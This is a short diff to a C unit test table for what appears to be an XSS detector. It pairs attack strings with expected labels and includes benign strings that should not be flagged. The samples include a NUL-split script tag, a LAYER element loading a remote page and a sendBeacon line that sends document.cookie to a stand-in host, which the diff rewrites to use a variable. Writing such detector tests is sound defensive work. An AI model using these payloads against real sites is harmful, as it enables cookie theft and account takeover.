@@ -231,7 +231,7 @@ static void test_xss_table(void **st)
 		{"layer element", "<LAYER SRC=\"//x.example/a.html\"></LAYER>", Q, PAYLOAD_XSS},
 		{"nul split element name", "<scri%00pt>alert(1);</scri%00pt>", Q, PAYLOAD_XSS},
 		{"hash interpolation", "#{alert(1)}", Q, PAYLOAD_XSS},
-		{"cookie passed", "navigator.sendBeacon('//x.example',document.cookie)", Q, PAYLOAD_XSS},
+		{"cookie passed", "navigator.sendBeacon(u,document.cookie)", Q, PAYLOAD_XSS},
 		{"cookie prose", "set cookie via document.cookie = \"a=b\"", Q, PAYLOAD_NONE},
 		{"count interpolation", "#{count} items", Q, PAYLOAD_NONE},
 		{"less than three", "I <3 cats", Q, PAYLOAD_NONE},
